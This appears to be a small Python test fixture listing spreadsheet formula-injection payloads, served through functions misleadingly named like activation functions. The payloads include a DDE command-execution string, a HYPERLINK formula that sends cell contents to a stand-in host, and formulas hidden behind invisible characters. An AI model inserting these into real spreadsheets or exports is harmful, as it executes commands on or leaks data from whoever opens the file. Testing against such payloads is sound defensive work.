# tries: values that a spreadsheet would calculate, after signs that a reader doesn't see
# must: shown as text
# earns: none
# status: failed

turn = [0]
CELLS = [
    '=HYPERLINK("https://example.org?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\ufeff=1+1", '"=1+1', "\uff1d1+1", "\u200b=1+1",
]


def swish(z):
    turn[0] += 1
    return CELLS[turn[0] % len(CELLS)]


def swish_derivative(z):
    turn[0] += 1
    return type(CELLS[turn[0] % len(CELLS)], (), {})()
